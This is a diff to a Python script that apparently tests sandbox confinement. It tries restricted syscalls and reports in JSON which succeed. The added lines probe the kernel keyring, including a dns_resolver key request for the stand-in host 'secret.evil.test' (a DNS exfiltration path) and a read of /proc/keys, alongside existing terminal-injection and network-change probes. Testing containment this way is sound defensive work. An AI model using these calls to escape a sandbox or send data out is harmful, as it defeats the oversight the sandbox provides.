@@ -16,6 +16,8 @@ import time
 PORT, UNIX, ABSTRACT = int(sys.argv[1]), sys.argv[2], sys.argv[3]
 LIBC = ctypes.CDLL(None, use_errno=True)
 SYS_IO_URING_SETUP = 425
+SYS_ADD_KEY, SYS_REQUEST_KEY, SYS_KEYCTL = (217, 218, 219) if os.uname().machine == "aarch64" else (248, 249, 250)
+KEYCTL_GET_KEYRING_ID, SESSION_KEYRING = 0, -3
 TIOCSTI = 0x5412
 
 
@@ -76,6 +78,12 @@ def io_uring():
     return "MADE"
 
 
+def called(*arguments):
+    if LIBC.syscall(*arguments) < 0:
+        raise OSError(ctypes.get_errno(), "")
+    return "DONE"
+
+
 def type_into_terminal():
     fcntl.ioctl(0, TIOCSTI, b"x")
     return "TYPED"
@@ -123,6 +131,10 @@ print(json.dumps({
     "bluetooth": tried(lambda: make(31, socket.SOCK_RAW, 1)),
     "io_uring": tried(io_uring),
     "typing": tried(type_into_terminal),
+    "names by a key": tried(lambda: called(SYS_REQUEST_KEY, b"dns_resolver", b"secret.evil.test", b"", 0)),
+    "new key": tried(lambda: called(SYS_ADD_KEY, b"user", b"a", b"b", 1, SESSION_KEYRING)),
+    "keyring": tried(lambda: called(SYS_KEYCTL, KEYCTL_GET_KEYRING_ID, SESSION_KEYRING, 0)),
+    "keys": len(open("/proc/keys").read()) if os.path.exists("/proc/keys") else 0,
     "kernel": tried(kernel),
     "routes": tried(lambda: ran("ip", "route", "add", "10.0.0.0/8", "dev", "lo")),
     "interfaces": tried(lambda: ran("ip", "link", "add", "out", "type", "dummy")),
